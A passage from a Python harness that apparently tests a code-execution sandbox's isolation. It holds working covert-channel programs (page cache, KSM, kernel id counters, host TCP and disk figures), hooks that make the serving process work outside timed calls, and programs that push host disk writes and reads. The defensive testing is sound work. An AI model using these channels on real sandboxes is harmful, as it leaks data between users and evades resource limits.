        obs = "secret %s; %d samples of %s; sender %s; receiver %s" % (
            bits,
            len(rows),
            names,
            short(results[0]),
            short(recv),
        )
        if t0 is None:
            return "inconclusive", "no sender start time; " + obs
        if not rows:
            if recv is None or recv.status != "ok":
                return "inconclusive", "the receiving run did not end ok, no samples; " + obs
            return "stopped", "the receiving run could read no host value; " + obs
        found, per = [], []
        for j, name in enumerate(names):
            samples = [(r[0], r[j + 1]) for r in rows if r[j + 1] == r[j + 1]]
            if len(samples) < 20:
                per.append("%s: unreadable" % name)
                continue
            got, how = decode_samples(samples, t0, len(bits), name not in LEVELS)
            if got is None:
                per.append("%s: %s" % (name, how))
                continue
            wrong = sum(a != b for a, b in zip(got, bits))
            per.append("%s: %s (%d wrong)" % (name, got, wrong))
            if wrong <= 1:
                found.append("%s %s" % (name, how))
        obs += "; per value: " + "; ".join(per)
        if found:
            what = (
                "timing-based: the receiving run decoded the sender's bits from its own loop speed"
                if timing
                else "the receiving run decoded the sender's bits from host-wide values"
            )
            return "hole", "%s: %s; %s" % (what, found, obs)
        return "stopped", obs

    return judge


_XC6_LIMITS = dict(
    wall_s=16, cpu_s=20, memory_mb=512, max_processes=5, output_kb=1024, file_size_mb=100, max_files=4000
)
_XC6_SAMPLE_S = 1.5 + NBITS * SLOT + 3.0

# --------------------------------------------------------------------------- the attacks

L = dict  # limits

ATTACKS = []


def A(**kw):
    kw.setdefault("limits", L(wall_s=10, cpu_s=5, memory_mb=256, max_processes=4))
    kw.setdefault("outside", leftovers)
    ATTACKS.append(kw)


# ---- xc-hostproc: concurrent runs, host-wide values other than round 5's (/proc/stat, file-nr, loadavg) --


# =========================================================================== round 7

LEVELS.update({"eventfd_id", "tcp_mem", "tcp_proto_mem", "disk_free_mb"})


def receiver_custom(defs, sample_s, helpers="", prelude=False):
    """A sampling receiver in RECEIVER_MULTI's output format (NAMES / SAMPLES lines): defs maps a value's name
    to an expression; helpers is code run first (functions the expressions call)."""
    lines = helpers + "\n" + "\n".join("M[%r] = lambda: %s" % (k, v) for k, v in defs.items())
    return prog(RECEIVER_MULTI.replace("@METRICS@", lines).replace("@SAMPLE_S@", str(sample_s)), prelude=prelude)


def _stdout(r):
    return (r.stdout or "") if r is not None else ""


# ---- fork-server: code that runs in the SERVING process between calls, around round 6's closures ---------
# (round 6 closed: threads of the start, interval timers, helpers of the start or of a call, a call lingering
# after its result, patched read/write/wait/exit). Each program below installs a hook that does up to 2.0 s
# of work, in bursts, in the serving process only (its pid at the start), once call 0 has begun (call 0 sets
# a flag in a shared mapping); the calls return at once with the work done so far. The judge compares that
# work with the supervisor's clocks: work beyond the sum of every call's measured seconds ran while no call
# was timed.

_FSW = r"""
import mmap, os, time, struct
SH = mmap.mmap(-1, 4096, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
SERVER = os.getpid()
_mono = time.monotonic
_getpid = os.getpid
_unpack, _pack = struct.unpack, struct.pack
_IN = [False]
_LAST = [0.0]
BURST = @BURST@
def server_work(*_a, **_k):
    if _IN[0] or _getpid() != SERVER or SH[16] != 1:
        return None
    _IN[0] = True
    try:
        h = _unpack('d', SH[0:8])[0]
        if h >= 2.0 or _mono() - _LAST[0] < 0.05:
            return None
        t = _mono()
        n = 0
        while _mono() < t + BURST:
            n += 1
        _LAST[0] = _mono()
        SH[0:8] = _pack('d', h + (_LAST[0] - t))
        SH[8:16] = _pack('d', _unpack('d', SH[8:16])[0] + 1)
    finally:
        _IN[0] = False
    return None
"""

_FSW_CALL = (
    "import struct as _st\nSH[16] = 1\n"
    "result = 'SERVERWORK %.3f %d' % (_st.unpack('d', SH[0:8])[0], int(_st.unpack('d', SH[8:16])[0]))\n"
)


def _fsw_prog(install, burst=0.25, prelude=False):
    return prog(_FSW.replace("@BURST@", repr(burst)) + install, prelude=prelude)


def _fsw_calls(ctx):
    return dict(code=_FSW_CALL, inputs=[{"i": k} for k in range(6)], seconds=3.0, start_s=2.5)


def judge_server_work(b, a, res, ctx):
    r = res[-1]
    obs = calls_short(r)
    left = leftover_diff(b, a)
    if left:
        return "hole", obs + "; left: " + "; ".join(left)
    if run_errors(ctx):
        return "hole", "run_python raised in the caller: %s; %s" % (run_errors(ctx), obs)
    if r is None:
        return "inconclusive", "no result"
    clocked, worst = 0.0, None
    for k, c in enumerate(r.calls):
        clocked += c.seconds or 0.0
        m = re.search(r"SERVERWORK ([0-9.]+) (\d+)", c.value or "")
        if m:
            h = float(m.group(1))
            if worst is None or h - clocked > worst[0]:
                worst = (h - clocked, k, h, clocked, int(m.group(2)))
    if worst is None:
        return "stopped", "no call reported the serving process's work; " + obs
    gap, k, h, clk, bursts = worst
    obs = (
        "call %d saw %.2f s of work done in the serving process (%d bursts) against %.2f s the supervisor timed for calls 0-%d; %s"
        % (k, h, bursts, clk, k, obs)
    )
    if gap > 0.4:
        return "hole", "the serving process worked while no call was timed: " + obs
    return "stopped", obs


def _fs7(id, desc, install, burst=0.25, prelude=False, expected=None):
    A(
        id=id,
        **{"class": "fork-server"},
        description=desc,
        code=_fsw_prog(install, burst, prelude),
        calls=_fsw_calls,
        limits=L(wall_s=30, cpu_s=12, memory_mb=256, max_processes=3),
        expected=expected
        or "no work of the program runs in the serving process outside the calls' clocks (the hook never runs there, or its time is inside a call's seconds, or the run fails)",
        judge=judge_server_work,
    )


_fs7(
    "fs7_server_setprofile",
    "the start installs sys.setprofile and threading.setprofile hooks (called on every Python and C call the serving loop makes, e.g. on the return of its wait for the call's process) that work in the serving process",
    "import sys, threading\nsys.setprofile(lambda f, e, a: server_work())\nthreading.setprofile(lambda f, e, a: server_work())\n",
)

_fs7(
    "fs7_server_gc_callback",
    "the start appends a gc.callbacks entry and sets gc thresholds to 1 (a collection on nearly every allocation the serving loop makes); the callback works in the serving process",
    "import gc\ngc.callbacks.append(lambda phase, info: server_work() if phase == 'stop' else None)\ngc.set_threshold(1, 1, 1)\n",
)

_fs7(
    "fs7_server_audit_hook",
    "the start adds a PEP 578 audit hook of its own (sys.addaudithook; called for os.fork, open, compile, exec ... events the serving loop raises) that works in the serving process",
    "import sys\nsys.addaudithook(lambda ev, args: server_work())\n",
)

_fs7(
    "fs7_register_at_fork_parent",
    "the start registers os.register_at_fork(after_in_parent=...): after each call's fork the serving process works 0.6 s while the call's process answers at once",
    "os.register_at_fork(after_in_parent=server_work)\n",
    burst=0.6,
)

_fs7(
    "fs7_server_patch_all",
    "the start wraps every function of os, posix, time, select, signal, gc, json, pickle, marshal, io, ast, base64, binascii, fcntl, resource and builtins exec/eval/compile/repr/print/open/__import__, and sys.stdout/sys.stderr, so that whatever the serving loop calls then works in the serving process",
    r"""
import sys, builtins, types, importlib
def _wrap(f):
    def w(*a, **k):
        try:
            return f(*a, **k)
        finally:
            server_work()
    try:
        w.__name__ = f.__name__
        w.__qualname__ = getattr(f, '__qualname__', f.__name__)
        w.__wrapped__ = f
    except Exception:
        pass
    return w
_n = 0
for _mn in ('os', 'posix', 'time', 'select', 'signal', 'gc', 'json', 'pickle', 'marshal', 'io', 'ast',
            'base64', 'binascii', 'fcntl', 'resource', 'struct', 'traceback', 'errno', 'selectors'):
    try:
        _m = importlib.import_module(_mn)
    except Exception:
        continue
    for _k in list(vars(_m)):
        if _k.startswith('__'):
            continue
        _v = getattr(_m, _k, None)
        if isinstance(_v, (types.BuiltinFunctionType, types.FunctionType)):
            try:
                setattr(_m, _k, _wrap(_v))
                _n += 1
            except Exception:
                pass
for _k in ('exec', 'eval', 'compile', 'repr', 'print', 'open', '__import__'):
    setattr(builtins, _k, _wrap(getattr(builtins, _k)))
class _Out:
    def __init__(self, s):
        self._s = s
    def write(self, x):
        server_work()
        return self._s.write(x)
    def flush(self):
        server_work()
        return self._s.flush()
    def __getattr__(self, k):
        return getattr(self._s, k)
sys.stdout, sys.stderr = _Out(sys.stdout), _Out(sys.stderr)
sys.__stdout__, sys.__stderr__ = sys.stdout, sys.stderr
print('wrapped', _n, flush=True)
""",
)

_fs7(
    "fs7_server_native_thread",
    "the start makes an OS thread with libc pthread_create through a ctypes callback (not the threading module) and arms faulthandler's watchdog thread (dump_traceback_later, repeat); the native thread works in the serving process between calls",
    r"""
import faulthandler, ctypes
_fh = open('fh.txt', 'w')
try:
    faulthandler.dump_traceback_later(0.2, repeat=True, file=_fh)
except Exception as e:
    say('faulthandler', e)
_CB = ctypes.CFUNCTYPE(ctypes.c_void_p, ctypes.c_void_p)
def _body(arg):
    end = time.monotonic() + 40
    while time.monotonic() < end:
        server_work()
        time.sleep(0.02)
    return None
_cb = _CB(_body)
_tid = ctypes.c_ulong()
try:
    say('pthread_create', libc.pthread_create(ctypes.byref(_tid), None, _cb, None))
except Exception as e:
    say('pthread_create failed', e)
""",
    prelude=True,
)


# ---- xc-kernelids: concurrent runs (or the caller) and a run, through kernel state that is neither a /proc
# host file nor round 5-6's counters: pidfs inode numbers, the eventfd id allocator, the page cache while the
# sender lives, TCP memory in the run's own /proc/self/net, the host file system's free blocks, KSM ----------

_XC7_SAMPLE_S = 1.5 + NBITS * SLOT + 3.0

_FORK_SENDER = prog(
    SENDER_HEAD
    + r"""
for b, until in slots():
    if b != '1':
        continue
    while time.monotonic() < until:
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
result = 1
"""
)

A(
    id="xc7_pidfs_ino",
    **{"class": "xc-kernelids"},
    description="two runs at once: the sender forks as fast as it can in its 1-slots; the receiver forks a child per sample and reads the inode number of a pidfd on it (pidfs numbers every pid the host allocates, from one counter)",
    setup=setup_concurrent,
    concurrent=True,
    code=_FORK_SENDER,
    receiver=receiver_custom(
        {"pidfs_ino": "_pidfs()"},
        _XC7_SAMPLE_S,
        helpers=r"""
import os
def _pidfs():
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    try:
        fd = os.pidfd_open(pid)
        ino = os.fstat(fd).st_ino
        os.close(fd)
    finally:
        os.waitpid(pid, 0)
    return float(ino)
""",
        prelude=True,
    ),
    limits=_XC6_LIMITS,
    expected="the receiver decodes nothing from pidfd inode numbers (no host-wide pid counter visible to a run)",
    judge=judge_multi(),
)

A(
    id="xc7_eventfd_id",
    **{"class": "xc-kernelids"},
    description="two runs at once: the sender holds 200 eventfds in its 1-slots (closed in the 0-slots); the receiver makes an eventfd per sample and reads its eventfd-id in /proc/self/fdinfo (one host-wide lowest-free id allocator)",
    setup=setup_concurrent,
    concurrent=True,
    code=prog(
        SENDER_HEAD
        + r"""
held = []
for b, until in slots():
    for fd in held:
        os.close(fd)
    held = []
    if b == '1':
        for _ in range(200):
            try:
                held.append(os.eventfd(0))
            except OSError:
                break
    while time.monotonic() < until:
        time.sleep(0.005)
result = 1
"""
    ),
    receiver=receiver_custom(
        {"eventfd_id": "_efd()"},
        _XC7_SAMPLE_S,
        helpers=r"""
import os
def _efd():
    fd = os.eventfd(0)
    try:
        with open('/proc/self/fdinfo/%d' % fd) as f:
            for line in f:
                if line.startswith('eventfd-id:'):
                    return float(line.split()[1])
    finally:
        os.close(fd)
    return float('nan')
""",
        prelude=True,
    ),
    limits=_XC6_LIMITS,
    expected="the receiver decodes nothing from its eventfd ids (ids not shared with other runs, or not visible)",
    judge=judge_multi(),
)

_PC_PROBE = r"""
import mmap, ctypes
path = '@CACHE_FILE@'
pages = [int(x) for x in '@CACHE_PAGES@'.split(',') if x]
out = {'mincore': '', 'cachestat': '', 'nowait': ''}
if path and pages:
    f = open(path, 'rb')
    mm = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_COPY)
    try:
        mm.madvise(mmap.MADV_RANDOM)
    except Exception:
        pass
    buf = (ctypes.c_char * 1).from_buffer(mm)
    base = ctypes.addressof(buf)
    vec = (ctypes.c_ubyte * 1)()
    for p in pages:
        r = libc.mincore(ctypes.c_void_p(base + p * 4096), ctypes.c_size_t(4096), vec)
        out['mincore'] += '?' if r else str(vec[0] & 1)
    class _R(ctypes.Structure):
        _fields_ = [('off', ctypes.c_uint64), ('len', ctypes.c_uint64)]
    class _C(ctypes.Structure):
        _fields_ = [('c', ctypes.c_uint64 * 5)]
    for p in pages:
        rg, cs = _R(p * 4096, 4096), _C()
        r, e = sc(451, f.fileno(), ctypes.byref(rg), ctypes.byref(cs), 0)
        out['cachestat'] += '?' if r else ('1' if cs.c[0] else '0')
    for p in pages:
        try:
            n = os.preadv(f.fileno(), [bytearray(4096)], p * 4096, os.RWF_NOWAIT)
            out['nowait'] += '1' if n > 0 else '0'
        except BlockingIOError:
            out['nowait'] += '0'
        except OSError:
            out['nowait'] += '?'
    del buf
for k, v in out.items():
    say('PROBE', k, v or '-')
result = 1
"""


def judge_probe(kind="hole"):
    def judge(b, a, res, ctx):
        bits = ctx.get("bits") or ""
        r = res[-1]
        obs = "secret %s; file pages cached on the host after: %s; %s; probes %s" % (
            bits,
            a.get("own") if isinstance(a, dict) else a,
            "; ".join(short(x) for x in res),
            re.findall(r"^PROBE .*$", _stdout(r), re.M),
        )
        if not bits:
            return "inconclusive", "no big bound host file with cold pages: " + obs
        for m in re.finditer(r"^PROBE (\w+) ([01?]+)$", _stdout(r), re.M):
            got = m.group(2)
            if len(got) == len(bits) and sum(x != y for x, y in zip(got, bits)) <= 1:
                return kind, "the run read the secret from the page cache (%s): %s" % (m.group(1), obs)
        return "stopped", obs

    return judge


def _pc_sender(ctx):
    return prog(
        r"""
import mmap
path, bits = '@CACHE_FILE@', '@BITS@'
pages = [int(x) for x in '@CACHE_PAGES@'.split(',') if x]
if path and pages:
    f = open(path, 'rb')
    mm = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)
    mm.madvise(mmap.MADV_RANDOM)
    s = 0
    for p, b in zip(pages, bits):
        if b == '1':
            s += mm[p * 4096]
    say('touched', s)
time.sleep(8)
result = 1
"""
    )(ctx)


A(
    id="xc7_pagecache_concurrent",
    **{"class": "xc-kernelids"},
    description="two runs at once: the sender faults in the pages of a big bound host file where its 16-bit secret has a 1 (MADV_RANDOM, pages 1 MB apart, cold before) and holds them; 2.5 s later the receiver probes the same pages with mincore, cachestat(451) and preadv2(RWF_NOWAIT) (no timing, no eviction)",
    setup=setup_pagecache,
    concurrent=True,
    code=_pc_sender,
    receiver=prog("time.sleep(2.5)\n" + _PC_PROBE),
    limits=L(wall_s=15, cpu_s=8, memory_mb=256, max_processes=2),
    outside=with_leftovers(outside_pagecache),
    expected="the receiver cannot tell which pages the concurrent run brought into the page cache (only round 4's sequential case is closed, by the cgroup's emptying)",
    judge=judge_probe(),
)


def _setup_caller_pages(ctx):
    setup_pagecache(ctx)
    if ctx.get("cache_file"):
        fd = os.open(ctx["cache_file"], os.O_RDONLY)
        try:
            os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
            for p, b in zip(map(int, ctx["cache_pages"].split(",")), ctx["bits"]):
                if b == "1":
                    os.pread(fd, 1, p * PAGE)
        finally:
            os.close(fd)


A(
    id="xc7_caller_pagecache",
    **{"class": "xc-kernelids"},
    description="the caller (the grader's side) reads the pages of a big bound host file where a 16-bit secret has a 1 just before the run; the run probes which of them are cached (mincore, cachestat, RWF_NOWAIT): what the grader read is visible to the program",
    setup=_setup_caller_pages,
    code=prog(_PC_PROBE),
    limits=L(wall_s=10, cpu_s=5, memory_mb=256, max_processes=1),
    outside=with_leftovers(outside_pagecache),
    expected="the run cannot tell which pages of a host file the host has cached (not documented either way: a hole of information from the grader's side if decoded)",
    judge=judge_probe(),
)


def _caller_sender(ctx, one, zero, lead=3.0):
    """A thread of the caller that calls one() at the start of each 1-slot and zero() at the start of each
    0-slot, from ctx['sender_t0'] = now + lead."""
    setup_concurrent(ctx)
    t0 = time.monotonic() + lead
    ctx["sender_t0"] = t0
    stop = threading.Event()
    ctx["_stop"] = stop

    def run():
        for i, b in enumerate(ctx["bits"]):
            start = t0 + i * SLOT
            while time.monotonic() < start and not stop.is_set():
                time.sleep(0.002)
            if stop.is_set():
                return
            try:
                (one if b == "1" else zero)()
            except Exception:
                pass
        try:
            zero()
        except Exception:
            pass

    th = threading.Thread(target=run, daemon=True)
    th.start()
    ctx["_th"] = th


def _setup_tcpmem(ctx):
    import socket

    ls = socket.socket()
    ls.bind(("127.0.0.1", 0))
    ls.listen(128)
    pairs = []
    for _ in range(48):
        c = socket.create_connection(ls.getsockname())
        s, _ = ls.accept()
        c.setblocking(False)
        s.setblocking(False)
        pairs.append((c, s))
    ctx["_socks"] = [ls] + [x for p in pairs for x in p]
    chunk = b"x" * 65536

    def one():
        for c, _s in pairs:
            for _ in range(4):
                try:
                    c.send(chunk)
                except BlockingIOError:
                    break

    def zero():
        for _c, s in pairs:
            while True:
                try:
                    if not s.recv(1 << 20):
                        break
                except BlockingIOError:
                    break

    _caller_sender(ctx, one, zero)


def _teardown_sender(ctx):
    if ctx.get("_stop"):
        ctx["_stop"].set()
    if ctx.get("_th"):
        ctx["_th"].join(5)
    for s in ctx.get("_socks", []):
        try:
            s.close()
        except OSError:
            pass
    for fd in ctx.get("_fds", []):
        try:
            os.close(fd)
        except OSError:
            pass
    if ctx.get("_file"):
        try:
            os.unlink(ctx["_file"])
        except OSError:
            pass


_XC7_CALLER_SAMPLE_S = 3.5 + NBITS * SLOT + 2.0

A(
    id="xc7_caller_tcpmem",
    **{"class": "xc-kernelids"},
    description="the caller queues 12 MB on 48 loopback TCP connections of its own in its 1-slots (drains them in the 0-slots); the run samples the TCP memory in its own /proc/self/net/sockstat and /proc/self/net/protocols (a per-pid entry that subset=pid keeps; the figure is the host's, all network namespaces)",
    setup=_setup_tcpmem,
    teardown=_teardown_sender,
    code=receiver_custom(
        {
            "tcp_mem": "_kv('/proc/self/net/sockstat', 'TCP', 10)",
            "tcp_proto_mem": "_kv('/proc/self/net/protocols', 'TCP', 3)",
        },
        _XC7_CALLER_SAMPLE_S,
    ),
    limits=L(wall_s=16, cpu_s=12, memory_mb=256, max_processes=1),
    expected="the run decodes nothing of the caller's network activity (host-wide TCP memory is not visible in the run)",
    judge=judge_multi(),
)


def _setup_statfs(ctx):
    d = sysconfig.get_paths()["purelib"]
    ctx["purelib"] = d
    path = os.path.join(d, "r3b7fill-%s" % ctx["nonce"])
    fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
    ctx["_file"], ctx["_fds"] = path, [fd]

    def one():
        os.posix_fallocate(fd, 0, 512 << 20)

    def zero():
        os.ftruncate(fd, 0)

    _caller_sender(ctx, one, zero)


A(
    id="xc7_caller_statfs",
    **{"class": "xc-kernelids"},
    description="the caller allocates 512 MB (fallocate: no data written) in a file on the file system of the bound venv in its 1-slots and truncates it in the 0-slots; the run samples statvfs() of the bound site-packages (the host file system's free blocks)",
    setup=_setup_statfs,
    teardown=_teardown_sender,
    code=receiver_custom(
        {"disk_free_mb": "(lambda s: s.f_bfree * s.f_frsize / 1048576.0)(os.statvfs('@PURELIB@'))"},
        _XC7_CALLER_SAMPLE_S,
        helpers="import os",
    ),
    limits=L(wall_s=16, cpu_s=12, memory_mb=256, max_processes=1),
    expected="the run decodes nothing of the host's disk use (statfs of a bound tree does not show the host file system's free space, or it is not readable)",
    judge=judge_multi(),
)


def _setup_ksm(ctx):
    ctx["ksm_run"] = _read("/sys/kernel/mm/ksm/run").strip().decode() or "unreadable"
    ctx["symbol"] = random.Random(ctx["nonce"] + "ksm").randint(1, 15)


_KSM_COMMON = (
    RAWMAP
    + r"""
import hashlib
def page(k):
    h = hashlib.sha256(('@NONCE@-%d' % k).encode()).digest()
    return (h * 128)[:4096]
def region(ks):
    a = rawmap(64 * 4096)
    for i, k in enumerate(ks):
        ctypes.memmove(a + i * 4096, page(k), 4096)
    print('madvise', libc.madvise(ctypes.c_void_p(a), ctypes.c_size_t(64 * 4096), 12), flush=True)
    libc.prctl(67, 1, 0, 0, 0)
    return a
"""
)

A(
    id="xc7_ksm_merge",
    **{"class": "xc-kernelids"},
    description="two runs at once: the sender holds 4 x symbol pages of nonce-derived content marked MADV_MERGEABLE (and PR_SET_MEMORY_MERGE); the receiver holds all 64 such pages, mergeable, waits 8 s and reads /proc/self/ksm_merging_pages (KSM merges identical pages across processes: how many of its pages the other run also holds)",
    setup=_setup_ksm,
    concurrent=True,
    code=prog(_KSM_COMMON + "a = region(range(4 * @SYMBOL@))\ntime.sleep(12)\nresult = 1\n"),
    receiver=prog(
        _KSM_COMMON
        + r"""
time.sleep(1.0)
a = region(range(64))
time.sleep(8)
for n in ('ksm_merging_pages', 'ksm_stat'):
    try:
        say('KSM', n, open('/proc/self/' + n).read().replace('\n', ' '))
    except OSError as e:
        say('KSM', n, 'unreadable', e)
result = 1
"""
    ),
    limits=L(wall_s=16, cpu_s=10, memory_mb=256, max_processes=1),
    expected="the receiver learns nothing of the other run's memory contents (KSM off, or runs' pages never merged across runs)",
    judge=lambda b, a, res, ctx: _judge_ksm(res, ctx),
)


def _judge_ksm(res, ctx):
    r = res[-1]
    m = re.search(r"^KSM ksm_merging_pages (\d+)", _stdout(r), re.M)
    obs = "host /sys/kernel/mm/ksm/run %s; symbol %s; receiver merging pages %s; %s" % (
        ctx.get("ksm_run"),
        ctx.get("symbol"),
        m.group(1) if m else "?",
        "; ".join(short(x) for x in res),
    )
    if m and int(m.group(1)) // 4 == ctx["symbol"] and int(m.group(1)) > 0:
        return "hole", "the receiver counted the other run's pages that equal its own: " + obs
    if ctx.get("ksm_run") != "1":
        return "inconclusive", "KSM is not running on this host (the channel needs it): " + obs
    return "stopped", obs


def _setup_busy(ctx):
    setup_concurrent(ctx)


A(
    id="xc7_schedstat_wait",
    **{"class": "xc-kernelids"},
    description="documented open (CPU contention between concurrent runs) with counters instead of a clock: the sender busy-loops on every CPU it may use in its 1-slots; the receiver spins 5 ms per sample and reads its own /proc/self/schedstat run-queue wait and nonvoluntary_ctxt_switches",
    setup=_setup_busy,
    concurrent=True,
    code=prog(
        SENDER_HEAD
        + r"""
try:
    NB = min(len(os.sched_getaffinity(0)), 5)
except Exception:
    NB = 2
for b, until in slots():
    if b != '1':
        continue
    kids = []
    for k in range(NB - 1):
        pid = os.fork()
        if pid == 0:
            while time.monotonic() < until:
                pass
            os._exit(0)
        kids.append(pid)
    while time.monotonic() < until:
        pass
    for pid in kids:
        os.waitpid(pid, 0)
result = 1
"""
    ),
    receiver=receiver_custom(
        {"rq_wait_ns": "_wait()", "nvcsw": "_nv()"},
        _XC7_SAMPLE_S,
        helpers=r"""
import time
def _burn():
    end = time.perf_counter() + 0.005
    while time.perf_counter() < end:
        pass
def _wait():
    _burn()
    return float(open('/proc/self/schedstat').read().split()[1])
def _nv():
    for line in open('/proc/self/status'):
        if line.startswith('nonvoluntary_ctxt_switches'):
            return float(line.split()[1])
    return float('nan')
""",
    ),
    limits=_XC6_LIMITS,
    expected="documented open (CPU contention between concurrent runs, read by the runs themselves): a decode here is `known`, not a hole",
    judge=lambda b, a, res, ctx: (lambda v: ("known" if v[0] == "hole" else v[0], v[1]))(judge_multi()(b, a, res, ctx)),
)

# ---- xp-known: the documented-open pipe/socket inode counter, read another way -------------------------


def _setup_symbol(ctx):
    ctx["symbol"] = random.Random(ctx["nonce"] + "sym").randint(0, 15)


A(
    id="xp7_pipe_inode_percpu",
    **{"class": "xp-known"},
    description="documented open (the inode numbers of pipes and sockets): the sender pins itself to each CPU in turn and makes pipes until that CPU's batch of the inode counter sits in the bucket of its 4-bit symbol ((ino % 1024) // 64); the next run pins itself to each CPU and reads the numbers through readlink('/proc/self/fd/N')",
    setup=_setup_symbol,
    code=prog(
        r"""
sym = @SYMBOL@
for cpu in sorted(os.sched_getaffinity(0)):
    try:
        os.sched_setaffinity(0, {cpu})
    except OSError:
        continue
    ino = -1
    for _ in range(3000):
        r, w = os.pipe()
        ino = os.fstat(r).st_ino
        os.close(r)
        os.close(w)
        if (ino % 1024) // 64 == sym:
            break
    say('SCPU', cpu, ino)
result = 1
"""
    ),
    receiver=prog(
        r"""
for cpu in sorted(os.sched_getaffinity(0)):
    try:
        os.sched_setaffinity(0, {cpu})
    except OSError:
        continue
    r, w = os.pipe()
    link = os.readlink('/proc/self/fd/%d' % r)
    ino = int(link.split('[')[1].rstrip(']'))
    say('RCPU', cpu, ino, (ino % 1024) // 64)
result = 1
"""
    ),
    limits=L(wall_s=10, cpu_s=5, memory_mb=256, max_processes=1),
    expected="documented open (pipe and socket inode numbers, one host counter): a decode is `known`",
    judge=lambda b, a, res, ctx: _judge_pipe_sym(res, ctx),
)


def _judge_pipe_sym(res, ctx):
    got = [int(x) for x in re.findall(r"^RCPU \d+ \d+ (\d+)$", _stdout(res[-1]), re.M)]
    obs = "symbol %s; the receiver's buckets per CPU %s; %s" % (ctx["symbol"], got, "; ".join(short(x) for x in res))
    if got and ctx["symbol"] in got:
        return "known", "the next run read the symbol from the inode counter (documented open): " + obs
    return "stopped", obs


# ---- host-work: other ways to make the host write, read, log or compute for the run (round 6 closed sync,
# syncfs, O_DIRECT bandwidth, output draining) -----------------------------------------------------------


def _dirty_threshold_bytes():
    b = int(_read("/proc/sys/vm/dirty_background_bytes").strip() or 0)
    if b:
        return b
    ratio = int(_read("/proc/sys/vm/dirty_background_ratio").strip() or 10)
    return meminfo("MemAvailable")["MemAvailable"] * 1024 * ratio // 100


def _setup_dirty(ctx):
    d = sysconfig.get_paths()["purelib"]
    size = int(min(256 << 20, 0.4 * _dirty_threshold_bytes()))
    path = os.path.join(d, "r3b7dirty-%s" % ctx["nonce"])
    with open(path, "wb") as f:
        chunk = os.urandom(1 << 20)
        for _ in range(max(1, size >> 20)):
            f.write(chunk)
    ctx["_file"] = ctx["target"] = path
    ctx["_dirty_mb"] = size >> 20


def judge_dirty(b, a, res, ctx):
    d0 = b["own"]["Dirty"] / 1024
    t0 = (ctx.get("t_run0") or [None])[0] or 0
    early = [v["Dirty"] / 1024 for t, v in ctx.get("during", []) if v and t0 + 0.3 <= t <= t0 + 4.0]
    low = min(early) if early else None
    obs = (
        "the caller left %d MB dirty in a bound file (host Dirty %.0f MB before the run); lowest host Dirty in the run's first 4 s %s MB; %s; stdout %r"
        % (ctx.get("_dirty_mb", 0), d0, "?" if low is None else "%.0f" % low, short(res[-1]), _stdout(res[-1])[-300:])
    )
    if low is None:
        return "inconclusive", "no samples: " + obs
    if d0 - low > 0.6 * ctx.get("_dirty_mb", 0) and ctx.get("_dirty_mb", 0) >= 32:
        return "hole", "the host wrote out its dirty data while the run called fsync & co. on a bound file: " + obs
    return "stopped", obs


A(
    id="hw7_fsync_bound",
    **{"class": "host-work"},
    description="the caller leaves up to 256 MB of dirty data in a file in the bound venv site-packages; the run opens it read-only and calls fsync, fdatasync, sync_file_range(277, WAIT_BEFORE|WRITE|WAIT_AFTER) and msync(MS_SYNC) on a shared read-only mapping in a loop for 4 s (round 6 closed only sync and syncfs)",
    setup=_setup_dirty,
    teardown=_teardown_sender,
    outside=with_leftovers(lambda ctx: meminfo("Dirty", "Writeback")),
    during=lambda ctx: meminfo("Dirty", "Writeback"),
    during_period=0.1,
    code=prog(
        RAWMAP
        + r"""
p = '@TARGET@'
fd = os.open(p, os.O_RDONLY)
size = os.fstat(fd).st_size
a = rawmap(size, prot=1, flags=1, fd=fd)
libc.msync.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
end = time.monotonic() + 4
seen = {}
while time.monotonic() < end:
    for name, fn in (('fsync', lambda: os.fsync(fd)), ('fdatasync', lambda: os.fdatasync(fd)),
                     ('sync_file_range', lambda: sc(277, fd, 0, 0, 7)),
                     ('msync', lambda: libc.msync(a, size, 4) if a else 'no map')):
        try:
            seen[name] = repr(fn())[:40]
        except OSError as e:
            seen[name] = 'errno %d' % e.errno
say('CALLS', seen)
result = 1
"""
    ),
    limits=L(wall_s=10, cpu_s=6, memory_mb=256, max_processes=1),
    expected="the host's dirty data is not written out by the run (fsync & co. on a read-only bound file do nothing to the host's file, or fail)",
    judge=judge_dirty,
)


def diskstats(ctx=None):
    out = {}
    for line in _read("/proc/diskstats").decode().splitlines():
        p = line.split()
        if len(p) > 13 and not p[2].startswith(("loop", "ram")):
            out[p[2]] = (int(p[3]), int(p[5]), int(p[12]))  # reads completed, sectors read, io ticks (ms)
    return out


def judge_disk(iops=False):
    def judge(b, a, res, ctx):
        wall = max(ctx.get("wall", 1), 1)
        cap = ctx["limits"].get("io_mb_s", 64)
        per = {}
        for dev, (r1, s1, t1) in a["own"].items():
            if dev in b["own"]:
                r0, s0, t0 = b["own"][dev]
                per[dev] = ((s1 - s0) * 512 / 2**20 / wall, (r1 - r0) / wall, (t1 - t0) / 10.0 / wall)
        top = sorted(per.items(), key=lambda x: -x[1][0])[:4]
        obs = "per device over the run's %.1f s (MB/s, reads/s, util %%): %s; io_mb_s %s; %s; stdout %r" % (
            wall,
            [(d, round(x, 1), round(y), round(z)) for d, (x, y, z) in top],
            cap,
            short(res[-1]),
            _stdout(res[-1])[-300:],
        )
        if any(x > 1.5 * cap for x, y, z in per.values()):
            return "hole", "the host's disk read more than io_mb_s for the run: " + obs
        if iops and any(z > 80 and y > 2000 for x, y, z in per.values()):
            return "hole", "the run kept a host disk over 80% busy with small reads under the byte cap: " + obs
        return "stopped", obs

    return judge


def _setup_bigfiles(ctx):
    files = big_files_host(min_mb=64, limit=200)
    ctx["bigfiles"] = "|".join(files[:80])
    ctx["_nbig"] = len(files)


A(
    id="hw7_readahead_devices",
    **{"class": "host-work"},
    description="4 processes read big bound host files in every bound tree (each tree's block device) for 8 s with the readahead(187) syscall, POSIX_FADV_WILLNEED and MADV_POPULATE_READ on 64 MB windows (reads the kernel starts on the run's behalf, not the run's own read calls)",
    setup=_setup_bigfiles,
    outside=with_leftovers(diskstats),
    code=prog(
        RAWMAP
        + r"""
files = [p for p in '@BIGFILES@'.split('|') if p]
W = 64 << 20
def work(k):
